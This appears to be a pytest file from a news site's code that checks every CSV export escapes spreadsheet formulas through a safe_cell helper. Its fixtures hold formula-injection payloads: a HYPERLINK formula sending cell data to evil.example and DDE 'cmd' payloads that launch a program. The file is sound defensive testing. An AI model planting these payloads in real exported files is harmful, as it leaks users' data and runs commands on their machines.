"""No cell that we write is a formula, in any table that leaves the site."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime
from typing import Any

import pytest
from django.test import Client

from articles.imports.report import Report
from edge.tables import safe_cell
from groups.models import GroupAccount, Invitation, InvitationList, ListLine, Manager, Seat
from rights import export, register
from tests.everything import a_reader_with_everything, a_row
from tests.make import NOW, a_reader
from tests.supply_chain.lock import ROOT

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"a")'
# Beginning with each sign that means one, plain and wide, and behind what ends a cell in half of Europe.
FORMULAS = (
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "Bridge; =1+1",
    "Bridge;@SUM(1)",
    "Bridge|\t+1",
)
# Who writes a table has looked at what stands in it; a new one is added here with a test of its own.
WRITERS = {
    "articles/imports/report.py",
    "groups/list_views.py",
    "groups/manager_views.py",
    "groups/usage_files.py",
    "newsroom/audit/book.py",
    "rights/export.py",
    "rights/register.py",
}


def formulas(table: str) -> list[str]:
    """The cells that a spreadsheet would work out, whichever sign it ends a cell at."""
    found = []
    for delimiter in ",;\t|":
        # Who ends a cell at another sign sees the quotation marks of ours in its middle, and a line end ends a line.
        lines = [table] if delimiter == "," else table.splitlines()
        rows = [row for line in lines for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter)]
        found += [
            cell for row in rows for cell in row if re.match(r"\s*[=+@＝＋＠]|\s*-\S", cell.removeprefix("\ufeff"))
        ]
    return found


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_work_out_is_a_text(text: str) -> None:
    assert formulas(text)
    sheet = io.StringIO()
    csv.writer(sheet).writerow(["first", safe_cell(text), "last"])
    assert formulas(sheet.getvalue()) == []


@pytest.mark.parametrize(
    "text", ["", "Bridge", "bob@example.org", "Ministers agree; nobody pays", "a-b", "1 + 1", "'tis"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_every_writer_of_tables_is_known_and_asks_for_safe_cells() -> None:
    folders = ("newsroom", "rights", "articles", "groups", "subscriptions", "readers", "page_cache", "edge")
    sources = {path: path.read_text() for folder in folders for path in (ROOT / folder).rglob("*.py")}
    writers = {
        path.relative_to(ROOT).as_posix(): source
        for path, source in sources.items()
        if "csv.writer(" in source or "DictWriter" in source
    }
    assert set(writers) <= WRITERS
    assert [name for name, source in writers.items() if "safe_cell" not in source] == []


# --- Each of them --------------------------------------------------------------------------------------------


@pytest.fixture
def manager(client: Client, db: None, at: Callable[[datetime], None]) -> Iterator[GroupAccount]:
    at(NOW)
    alice = a_reader("alice@example.org", name=FORMULA)
    client.force_login(alice, "django.contrib.auth.backends.ModelBackend")
    group: Any = a_row(GroupAccount, alice, organisation=FORMULA)
    a_row(Manager, alice, group=group, ended_at=None)
    a_row(Seat, alice, group=group, ended_at=None, ended_because="", address="=cmd@example.org")
    a_row(Invitation, alice, group=group, address="+cmd@example.org", name=FORMULAS[3], seat=None, withdrawn_at=None)
    return group


def test_a_list_of_the_people_of_a_group_holds_none(manager: GroupAccount, client: Client) -> None:
    table = client.get(f"/group/{manager.pk}/people.csv").content.decode()
    assert "HYPERLINK" in table
    assert formulas(table) == []


def test_a_list_of_what_became_of_invitations_holds_none(manager: GroupAccount, client: Client) -> None:
    kept: Any = a_row(InvitationList, a_reader("dora@example.org"), group=manager)
    for number, formula in enumerate(FORMULAS):
        ListLine.objects.create(list=kept, number=number, address=formula, name=formula, said=formula, outcome="")
    table = client.get(f"/group/{manager.pk}/lists/{kept.pk}/lines.csv").content.decode()
    assert "HYPERLINK" in table
    assert formulas(table) == []


@pytest.mark.parametrize("name", ["reading.csv", "reading-counter.csv"])
def test_what_a_group_read_holds_none(name: str, manager: GroupAccount, client: Client) -> None:
    table = client.get(f"/group/{manager.pk}/{name}").content.decode()
    assert table
    assert formulas(table) == []


@pytest.mark.django_db
def test_what_we_hold_about_a_reader_holds_none() -> None:
    reader = a_reader_with_everything(name=FORMULA)
    tables = 0
    with export.write_zip(reader, at=NOW) as file, zipfile.ZipFile(file) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                tables += 1
                text = archive.read(name).decode()
                # JSON in a cell has signs behind commas of its own, and no spreadsheet cuts it there.
                cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]
                assert not [cell for cell in cells if re.match(r"[=+@\t\r\n]|-\D", cell)], name
    assert tables > 10


def test_the_report_of_an_import_holds_none(tmp_path: Any) -> None:
    with Report(tmp_path / "report.csv") as report:
        for formula in FORMULAS:
            report.add(formula, formula, formula)
    assert formulas((tmp_path / "report.csv").read_text(encoding="utf-8-sig")) == []


def test_the_register_holds_none(settings: Any) -> None:
    settings.HOSTING_PROVIDER = FORMULA
    cells = [cell for row in csv.reader(io.StringIO(register.as_csv())) for cell in row]
    assert cells
    assert not [cell for cell in cells if re.match(r"[=+@]|-\D", cell)]
